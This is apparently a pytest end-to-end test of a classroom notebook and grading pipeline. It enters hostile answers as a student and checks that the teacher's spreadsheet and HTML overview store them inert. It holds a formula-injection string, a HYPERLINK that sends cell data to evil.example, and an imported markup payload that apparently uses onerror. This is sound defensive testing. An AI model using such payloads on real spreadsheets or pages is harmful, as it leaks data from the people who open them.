"""The whole circle: one packed lesson on a computer that has no course, answered by keyboard, collected in a table.

Everything lies under a folder with a space and letters that are not ASCII: environment, lesson, temporary files.
"""

from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser, Locator, Page, expect

from helpers import questions
from helpers.classroom import sheet as sheets
from tests.classroom.submissions import moodle, zipped
from tests.classroom.test_collect import collect, table
from tests.classroom.test_pack import packed
from tests.environments import copied

from .lab import LabServer, ask_kernel, open_notebook, open_page, problems, run_all, running_lab, watch
from .student import MARKUP, acknowledged, desk, question
from .test_binder import REPOSITORY, run

pytestmark = [pytest.mark.browser, pytest.mark.slow]

FOLDER = "Große Pause 5b"
NAME = "@Zoë <b>Ёж</b>"
PROSE = f"{MARKUP}\ne\u0301 \u202eעברית\u202c 👩🏽‍🏫 ﷺ, \"a\"; 'b'\n=1+1"
FORMULA = '=1+1&HYPERLINK("http://evil.example/?"&A1,"click")'

# One lesson alone need not ask in every way.
LESSONS: dict[str, tuple[str, ...]] = {"02-terror": (), "01-background": ("--no-key",)}

# The kernel remembers every file that it opens.
LISTEN = """\
import sys
_opened = []
sys.addaudithook(lambda event, given: _opened.append(str(given[0])) if event == "open" else None)"""
OPENED = "print(sum(path.startswith({folder!r}) for path in [*_opened, *sys.path]))"


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("circle") / FOLDER


@pytest.fixture(scope="module")
def python(place: Path, binder_pins: Path) -> Path:
    """Return the Python of a fresh environment that has what Binder's file pins, and not the course."""
    place.mkdir()
    return copied(binder_pins, place / "environment")


# A student's answers, by keyboard: each returns the words that the teacher's table should hold -----


def press(control: Locator, *keys: str) -> None:
    control.focus()
    for key in keys:
        control.page.keyboard.press(key)


def write(field: Locator, text: str) -> str:
    field.press_sequentially(text)
    expect(field).to_have_value(text)
    return text


def words(part: Locator) -> str:
    """Return the words of a part; inner_text() is empty where the browser has not yet drawn them."""
    return part.text_content() or ""


def choice(box: Locator) -> str:
    option = box.locator(".course-option").nth(1)
    press(option.locator("input"), "Space")
    return f"B: {words(option)}"


def estimate(box: Locator) -> str:
    slider = box.get_by_label("Your estimate")
    press(slider, "ArrowRight", "ArrowRight", "ArrowRight")
    return slider.input_value()


def order(box: Locator) -> str:
    press(box.get_by_role("button", name="Move later").first, "Enter", "Enter")
    items = box.locator(".course-order li > span:first-child").all_text_contents()
    return "; ".join(f"{at}. {item}" for at, item in enumerate(items, start=1))


def scale(box: Locator) -> str:
    return "; ".join(f"{words(row.locator('legend'))} {chip(row)}" for row in box.locator("fieldset").all())


def chip(row: Locator) -> str:
    """Choose the second chip of a row by arrow; return its words."""
    press(row.get_by_role("radio").first, "Space", "ArrowRight")
    return words(row.locator("label", has=row.page.locator(":checked")))


def pairs(box: Locator) -> str:
    """Choose the first word for the first piece, the second for the second, and so on."""
    given = []
    for at, row in enumerate(box.locator(".course-pair").all(), start=1):
        press(row.locator("select"), *["ArrowDown"] * at)
        given.append(f"{words(row.locator('label'))} → {words(row.locator('option:checked'))}")
    return "; ".join(given)


def judge(box: Locator) -> str:
    return f"{chip(box.locator('fieldset'))}. {write(box.get_by_label('Your reasons'), PROSE)}"


def document(box: Locator) -> str:
    asked = questions.ASPECTS.values()
    return "\n".join(f"{aspect} {write(box.get_by_label(aspect), f'{FORMULA} {aspect}')}" for aspect in asked)


def text(box: Locator) -> str:
    return write(box.get_by_label("Your answer"), PROSE)


ANSWER: dict[str, Callable[[Locator], str]] = {
    "choice": choice,
    "estimate": estimate,
    "order": order,
    "scale": scale,
    "match": pairs,
    "tag": pairs,
    "judge": judge,
    "document": document,
    "text": text,
}


def answer_one_of_each_kind(page: Page, lesson: str) -> dict[str, str]:
    """Answer the first question of each kind, and the last text with a formula; return all by question id."""
    bank, given = questions.bank(lesson), dict[str, str]()
    for kind, name in first_of_each_kind(lesson).items():
        given[name] = ANSWER[kind](question(page, bank[name]["title"]))
    last = [name for name, entry in bank.items() if entry["kind"] == "text"][-1]
    given[last] = write(question(page, bank[last]["title"]).get_by_label("Your answer"), FORMULA)
    return given


def first_of_each_kind(lesson: str) -> dict[str, str]:
    return {entry["kind"]: name for name, entry in reversed(questions.bank(lesson).items())}


def hand_in(page: Page, folder: Path) -> Path:
    """Save the turn-in page by its button at the end of the lesson; return the file."""
    button = question(page, "Save your work and hand it in").get_by_role("button", name="Save my work")
    with page.expect_download() as waiting:
        press(button, "Enter")
    path = folder / waiting.value.suggested_filename
    waiting.value.save_as(path)
    return path


# What the teacher finds ---------------------------------------------------------------------------


def guarded(typed: str) -> str:
    """Return what was typed as a cell holds it: a formula begins with an apostrophe."""
    return f"'{typed}" if typed.startswith(("=", "@")) else typed


def runs_nothing(browser: Browser, page: Path) -> None:
    """Open a page that holds what the student typed: it shows it, asks for nothing and does nothing."""
    context = browser.new_context()
    reader, complaints, asked = context.new_page(), list[str](), list[str]()
    reader.on("console", lambda message: complaints.append(message.text))
    reader.on("request", lambda request: asked.append(request.url))
    reader.goto(page.as_uri())
    assert "onerror" in reader.locator("body").inner_text()
    assert reader.evaluate("window.ran") is None
    assert (complaints, asked) == ([], [page.as_uri()])
    context.close()


def test_the_lessons_of_these_tests_ask_in_every_way() -> None:
    asked = {kind for lesson in LESSONS for kind in first_of_each_kind(lesson)}
    assert asked == set(questions.REQUIRED) - {"essay"}  # its own test goes the whole way: test_essay.py


@pytest.mark.parametrize("lesson", LESSONS)
def test_a_packed_lesson_goes_to_a_student_and_comes_back_as_a_row(
    browser: Browser, place: Path, python: Path, lesson: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    base, temporary = place / f"{lesson} für Zoë", place / "Ablage für Zoë"
    for folder in (base, temporary):
        folder.mkdir(exist_ok=True)
    root = packed(base, *LESSONS[lesson], lesson=lesson)
    monkeypatch.setenv("TMPDIR", str(temporary))
    for name in ("PYTHONPATH", "COURSE_DATA"):
        monkeypatch.delenv(name, raising=False)
    assert (
        run(python, "-c", "import importlib.util as u; print(u.find_spec('helpers'))", cwd=root) == "None\n"
    )

    with (
        running_lab(root, base / "jupyter", python=str(python)) as server,
        open_page(browser, server) as page,
    ):
        given, work = study(page, server, lesson, temporary)
    runs_nothing(browser, work)

    (base / "Abgaben").mkdir()
    download = zipped({moodle(7, "Ёж Zoë", work.name): work.read_bytes()})
    (base / "Abgaben/5b – Große Pause.zip").write_bytes(download)
    code, said = collect(base / "Abgaben", base / "Tabelle")
    assert code == 0, said
    read_back(base / "Tabelle", lesson, given)
    runs_nothing(browser, base / "Tabelle/overview.html")


def study(page: Page, server: LabServer, lesson: str, temporary: Path) -> tuple[dict[str, str], Path]:
    """Be the student: open the lesson, run it, answer, hand in; return what was answered and the file."""
    seen = watch(page, server)
    open_notebook(page, f"{lesson}.ipynb")
    ask_kernel(page, LISTEN)
    run_all(page)
    assert problems(page) == []
    assert Path(ask_kernel(page, "import helpers; print(helpers.__file__)").strip()).is_relative_to(temporary)
    given = answer_one_of_each_kind(page, lesson)
    name = desk(page).get_by_label("Your name or nickname")
    write(name, NAME)
    name.press("Enter")
    acknowledged(page, lesson)
    assert len(list(server.root.glob(f"{lesson}.*.answers.json"))) == 1
    work = hand_in(page, server.root.parent)
    assert opened(page, temporary) > 0
    assert opened(page, REPOSITORY) == 0
    assert page.evaluate("window.ran") is None
    assert problems(page) == []
    assert seen.foreign == []
    return given, work


def opened(page: Page, folder: Path) -> int:
    """Return how many files in `folder` the lesson's kernel has opened, or looks for modules in."""
    return int(ask_kernel(page, OPENED.format(folder=str(folder))))


def read_back(results: Path, lesson: str, given: dict[str, str]) -> None:
    """Be the teacher: the one row holds every answer as it was typed, and nothing that a spreadsheet runs."""
    (row,) = table(results)
    sheet = load_workbook(results / "answers.xlsx")["Answers"]
    head, cells = sheet.iter_rows()
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n"}
    in_workbook = {
        name.value: "" if cell.value is None else str(cell.value)
        for name, cell in zip(head, cells, strict=True)
    }
    for found in (row, in_workbook):
        assert found["Student"] == guarded(NAME)
        assert found["Name on the platform"] == "Ёж Zoë"
        assert found["Notes"] == ""
        bank = questions.bank(lesson)
        wanted = {name: guarded(given.get(name, "")) for name in bank}
        if found is row:  # the CSV guards each line and each part, too; the workbook is exact
            wanted = {name: str(sheets._unbroken(words)) for name, words in wanted.items()}
        assert {name: found[name] for name in bank} == wanted
    (line,) = table(results, "report.csv")
    assert line["What became of it"] == "collected"
